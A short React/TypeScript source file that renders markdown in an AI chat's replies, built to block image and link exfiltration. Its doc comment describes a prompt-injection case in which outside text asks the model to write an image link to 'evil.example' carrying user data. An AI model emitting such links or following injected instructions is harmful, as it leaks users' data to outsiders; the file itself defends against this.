import type { Components } from 'react-markdown';

/**
 * How an assistant's reply renders its images and links. A reply can repeat text from outside the
 * user's hands (a project name from a domain API or an imported file) that asks the model to write
 * `![](https://evil.example/?d=<data>)`: rendered, the browser would send the data away unasked. So
 * no image is ever loaded (its alt text shows instead), and a link is a link only when the user wrote
 * that address themselves in the conversation; any other shows as its text.
 */
export function chatMarkdownComponents(writtenByUser: readonly string[]): Components {
  return {
    img: ({ alt }) => (alt ? <span>[{alt}]</span> : null),
    a: ({ href, children }) =>
      href && writtenByUser.some((text) => text.includes(href)) ? (
        <a href={href} target="_blank" rel="noopener noreferrer nofollow" className="underline">
          {children}
        </a>
      ) : (
        <span>{children}</span>
      ),
  };
}
